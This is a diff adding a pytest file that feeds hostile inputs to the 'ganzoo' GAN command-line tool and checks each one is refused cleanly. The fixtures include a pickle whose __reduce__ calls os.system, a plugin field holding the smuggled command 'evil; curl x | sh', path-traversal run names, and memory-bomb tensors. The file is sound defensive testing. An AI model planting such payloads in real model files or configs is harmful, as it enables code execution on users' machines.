@@ -1,0 +1,255 @@
+"""Hostile and broken input (issue #22): every case ends in one line, names the bad file or key,
+runs nothing and writes nothing outside its run directory.
+
+Each hostile file is generated here, at test time (no binary fixtures to trust). A case is a
+function that builds its files under ``tmp`` and returns the ``ganzoo`` arguments and the
+words the one line must contain.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import torch
+from conftest import TINY_DIGITS, write_recipe
+
+CAP_GIB = "2"  # the memory cap of these tests, whatever the machine has
+
+
+def _bundle(tmp: Path, architecture: str, config: dict, **index) -> Path:
+    folder = tmp / "bundle"
+    folder.mkdir()
+    meta = {"format": "ganzoo-bundle", "format_version": 1, "architecture": architecture,
+            "config": config, "components": {}, "training_components": {},
+            "training_files": {}, **index}
+    (folder / "config.json").write_text(json.dumps(meta))
+    return folder
+
+
+def _generate(folder: Path, tmp: Path) -> list:
+    return ["generate", folder, "-o", tmp / "out" / "grid.png", "-n", "1"]
+
+
+DCGAN_AT_CAPS = {"resolution": 128, "channels": 3, "z_dim": 4096, "gen_width": 1024,
+                 "disc_width": 1024}
+
+
+# -- 2. allocations a small file asks for --------------------------------------------------------
+def case_bundle_config_at_every_cap(tmp):
+    folder = _bundle(tmp, "dcgan", DCGAN_AT_CAPS)
+    return _generate(folder, tmp), [f"{folder / 'config.json'}", "GiB", "GANZOO_MAX_MODEL_GIB"]
+
+
+def case_pix2pix_bundle_at_its_caps(tmp):
+    folder = _bundle(tmp, "pix2pix", {"resolution": 4096, "depth": 12, "gen_width": 1024,
+                                      "disc_width": 1024, "input_nc": 64, "output_nc": 64})
+    return _generate(folder, tmp), [f"{folder / 'config.json'}", "GiB", "GANZOO_MAX_MODEL_GIB"]
+
+
+def case_recipe_that_dry_run_used_to_accept(tmp):
+    recipe = write_recipe(tmp / "big.toml", {
+        **TINY_DIGITS, "data": {"dataset": "digits", "resolution": 64},
+        "model": {"resolution": 64, "channels": 1, "z_dim": 4096, "gen_width": 1024,
+                  "disc_width": 1024}})
+    return ["run", recipe, "--dry-run"], [str(recipe), "training at batch_size 8",
+                                          "GANZOO_MAX_MODEL_GIB"]
+
+
+def case_stride0_tensors_in_a_third_party_file(tmp):
+    path = tmp / "latest_net_G.pth"
+    # 8 bytes of storage posing as a 1024 x 1024 x 3 x 3 convolution (36 MiB)
+    torch.save({"model.1.weight": torch.zeros(1).expand(1024, 1024, 3, 3)}, path)
+    return ["convert", "cyclegan", path, "-o", tmp / "out"], [str(path), "'model.1.weight'",
+                                                             "stride-0"]
+
+
+# -- 3. reads that never end ------------------------------------------------------------------
+def case_recipe_base_dev_zero(tmp):
+    recipe = write_recipe(tmp / "r.toml", {"base": "/dev/zero", **TINY_DIGITS})
+    return ["run", recipe, "--dry-run"], ["/dev/zero", "character device", "regular files"]
+
+
+def _isolated(case):
+    """Run this case in a subprocess with a timeout: a hang is a failure, not a dead test run."""
+    case.isolated = True
+    return case
+
+
+@_isolated
+def case_recipe_base_fifo(tmp):
+    os.mkfifo(tmp / "base.toml")
+    recipe = write_recipe(tmp / "r.toml", {"base": "base.toml", **TINY_DIGITS})
+    return ["run", recipe, "--dry-run"], [str(tmp / "base.toml"), "a FIFO"]
+
+
+@_isolated
+def case_recipe_itself_a_fifo(tmp):
+    os.mkfifo(tmp / "r.toml")
+    return ["run", tmp / "r.toml", "--dry-run"], [str(tmp / "r.toml"), "a FIFO"]
+
+
+@_isolated
+def case_bundle_index_a_fifo(tmp):
+    (tmp / "bundle").mkdir()
+    os.mkfifo(tmp / "bundle" / "config.json")
+    return _generate(tmp / "bundle", tmp), [str(tmp / "bundle"), "neither a ganzoo run directory"]
+
+
+# -- 6. where a run goes ------------------------------------------------------------------------
+def _named(name):
+    def case(tmp):
+        recipe = write_recipe(tmp / "r.toml", {**TINY_DIGITS, "name": name})
+        return ["run", recipe, "--dry-run"], [str(recipe), "name = ", "one folder name"]
+    case.__name__ = f"case_run_name_{name[:8]!r}"
+    return case
+
+
+# -- 7. unchecked structure -----------------------------------------------------------------
+def _index_case(key, value, words):
+    def case(tmp):
+        index = {"config": {}, key: value} if key != "architecture" else {"config": {}}
+        folder = _bundle(tmp, value if key == "architecture" else "dcgan", **{
+            k: v for k, v in index.items() if k != "config"}, config=index["config"])
+        return _generate(folder, tmp), [str(folder / "config.json"), *words]
+    case.__name__ = f"case_index_{key}_{type(value).__name__}"
+    return case
+
+
+def case_json_nested_thousands_deep(tmp):
+    folder = tmp / "bundle"
+    folder.mkdir()
+    (folder / "config.json").write_text("[" * 100_000 + "]" * 100_000)
+    return _generate(folder, tmp), [str(folder / "config.json"), "nested too deeply"]
+
+
+def case_toml_nested_thousands_deep(tmp):
+    recipe = tmp / "r.toml"
+    recipe.write_text("x = " + "[" * 50_000 + "]" * 50_000 + "\n")
+    return ["run", recipe, "--dry-run"], [str(recipe), "nested too deeply"]
+
+
+def case_a_1200_file_base_chain(tmp):
+    for i in range(1200):
+        write_recipe(tmp / f"r{i}.toml", {"base": f"r{i + 1}.toml"} if i < 1199 else TINY_DIGITS)
+    return ["run", tmp / "r0.toml", "--dry-run"], [str(tmp / "r0.toml"), "flatten the chain"]
+
+
+def case_seed_2_to_the_64(tmp):
+    recipe = write_recipe(tmp / "r.toml", TINY_DIGITS)
+    return ["run", recipe, "--dry-run", "--set", f"seed={2**64}"], [str(recipe), "seed = "]
+
+
+def case_embeddings_of_strings(tmp):
+    import numpy as np
+
+    path = tmp / "emb.npy"
+    from ganzoo.bundle import write_bundle
+    from ganzoo.testing import tiny_model
+
+    np.save(path, np.array([["a", "b"]]))
+    folder = write_bundle(tiny_model("stackgan"), tmp / "bundle", components="inference")
+    return ["generate", folder, "--embeddings", path, "-o", tmp / "out.png"], [
+        str(path), "must be numbers"]
+
+
+def case_truncated_torch_zip(tmp):
+    path = tmp / "latest_net_G.pth"
+    torch.save({"w": torch.zeros(100)}, path)
+    path.write_bytes(path.read_bytes()[:300])
+    return ["convert", "cyclegan", path, "-o", tmp / "out"], [str(path), "refused"]
+
+
+class _Canary:
+    path = ""
+
+    def __reduce__(self):
+        return (os.system, (f"touch {self.path}",))
+
+
+def case_pth_that_would_run_code(tmp):
+    path = tmp / "latest_net_G.pth"
+    _Canary.path = str(tmp / "canary")
+    torch.save({"w": _Canary()}, path)
+    return ["convert", "cyclegan", path, "-o", tmp / "out"], [str(path), "the global posix.system"]
+
+
+# -- 9. advice from a file ------------------------------------------------------------------
+def case_distribution_that_is_a_command(tmp):
+    folder = _bundle(tmp, "nosuch", {}, plugin={"distribution": "evil; curl x | sh"})
+    return _generate(folder, tmp), [str(folder / "config.json"), "install the plugin"]
+
+
+# -- 8. silently wrong ----------------------------------------------------------------------
+def case_component_path_wildcard(tmp):
+    folder = _bundle(tmp, "dcgan", {}, components={"gen": "*"})
+    return _generate(folder, tmp), [str(folder / "config.json"), "'*'", "wildcard"]
+
+
+CASES = [
+    case_bundle_config_at_every_cap, case_pix2pix_bundle_at_its_caps,
+    case_recipe_that_dry_run_used_to_accept, case_stride0_tensors_in_a_third_party_file,
+    case_recipe_base_dev_zero, case_recipe_base_fifo, case_recipe_itself_a_fifo,
+    case_bundle_index_a_fifo,
+    *[_named(n) for n in ["../escaped", "/tmp/abs", "a\x00b", "x" * 300, "..", "-rf"]],
+    _index_case("architecture", 7, ["\"architecture\" must be a string"]),
+    _index_case("architecture", None, ["\"architecture\" must be a string"]),
+    _index_case("architecture", ["dcgan"], ["\"architecture\" must be a string"]),
+    _index_case("config", ["z_dim", 8], ["\"config\" must be an object"]),
+    _index_case("format_version", "1", ["\"format_version\" must be an integer"]),
+    _index_case("plugin", "ganzoo_dcgan", ["\"plugin\" must be an object"]),
+    _index_case("components", ["gen"], ["'components' must be an object"]),
+    case_json_nested_thousands_deep, case_toml_nested_thousands_deep,
+    case_a_1200_file_base_chain, case_seed_2_to_the_64, case_embeddings_of_strings,
+    case_truncated_torch_zip, case_pth_that_would_run_code,
+    case_distribution_that_is_a_command, case_component_path_wildcard,
+]
+
+
+def _tree(root: Path) -> set[str]:
+    return {str(p.relative_to(root)) for p in root.rglob("*")}
+
+
+RUN = """
+import sys
+from ganzoo.cli import main
+main(sys.argv[1:])
+"""
+
+
+def _ganzoo(args: list, tmp: Path, isolated: bool) -> tuple[int, str]:
+    if not isolated:
+        from click.testing import CliRunner
+
+        from ganzoo.cli import cli
+
+        result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
+        return result.exit_code, result.output
+    env = {**os.environ, "OMP_NUM_THREADS": "1"}
+    proc = subprocess.run([sys.executable, "-c", RUN, *map(str, args)], capture_output=True,
+                          text=True, timeout=120, env=env, cwd=tmp)
+    return proc.returncode, proc.stderr
+
+
+@pytest.mark.parametrize("case", CASES, ids=lambda c: c.__name__.removeprefix("case_"))
+def test_hostile_input_is_one_line_naming_it(case, tmp_path, monkeypatch):
+    tmp = tmp_path / "case"
+    tmp.mkdir()
+    monkeypatch.chdir(tmp)
+    monkeypatch.setenv("GANZOO_MAX_MODEL_GIB", CAP_GIB)
+    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
+    args, words = case(tmp)
+    before = _tree(tmp_path)
+    status, output = _ganzoo(args, tmp, getattr(case, "isolated", False))
+    lines = output.strip().splitlines()
+    assert status == 1, (status, output[-2000:])
+    assert len(lines) == 1 and lines[0].startswith("ganzoo: "), output[-2000:]
+    for word in words:
+        assert word in lines[0], (word, lines[0])
+    assert "Traceback" not in output and "pip install evil" not in output
+    assert not (tmp / "canary").exists()  # nothing in the file ran
+    assert _tree(tmp_path) == before  # nothing written anywhere (no out dir, lock or temp file)
